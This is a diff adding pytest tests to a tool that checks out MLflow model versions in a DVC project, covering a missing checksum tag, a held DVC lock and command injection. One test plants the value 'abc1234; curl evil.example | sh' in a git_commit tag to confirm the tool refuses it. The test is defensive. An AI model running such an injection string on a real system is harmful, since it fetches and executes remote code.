@@ -160,3 +160,46 @@ def test_checkout_outside_the_repository_root_changes_nothing(two_versions):
         "error: no dvc.yaml here: run checkout in the repository's root folder"
     )
     assert snapshot(project) == before and not (project / "src" / "params.yaml").exists()
+
+
+def test_a_version_whose_model_md5_tag_was_deleted_is_refused_not_trusted(two_versions):
+    project = two_versions
+    mlflow.set_tracking_uri(f"sqlite:///{project}/mlruns/mlflow.db")
+    mlflow.MlflowClient().delete_model_version_tag(MODEL, "1", "model_md5")
+    before = snapshot(project)
+    result = checkout(project, f"models:/{MODEL}/1")
+    assert result.returncode == 1
+    assert error_line(result) == (
+        f"error: {MODEL} v1 has no model_md5 tag, so the restored model cannot be checked "
+        "against it"
+    )
+    assert snapshot(project) == before and up_to_date(project)
+
+
+def test_a_git_commit_tag_is_never_echoed_as_a_command(two_versions):
+    project = two_versions
+    set_tag(project, "1", "git_commit", "abc1234; curl evil.example | sh")
+    result = checkout(project, f"models:/{MODEL}/1")
+    assert result.returncode == 0, result.stderr
+    assert "git checkout" not in result.stdout
+    assert "v1's git_commit tag is not a commit id: 'abc1234; curl evil.example | sh'" in (
+        result.stdout
+    )
+
+
+def test_a_running_dvc_repro_is_refused_before_any_file_changes(two_versions):
+    """`dvc repro` holds DVC's lock while it runs, and writes dvc.lock at the end: files
+    replaced under it would be overwritten, or mixed with its own."""
+    import fcntl
+
+    project = two_versions
+    before = snapshot(project)
+    inode = (project / "params.yaml").stat().st_ino
+    (project / ".dvc" / "tmp").mkdir(parents=True, exist_ok=True)
+    with open(project / ".dvc" / "tmp" / "lock", "a") as lock:
+        fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)  # as zc.lockfile takes it for DVC
+        result = checkout(project, f"models:/{MODEL}/1")
+    assert result.returncode == 1
+    assert error_line(result).startswith("error: a DVC command (dvc repro?) holds this repo")
+    assert snapshot(project) == before
+    assert (project / "params.yaml").stat().st_ino == inode  # never replaced, not restored
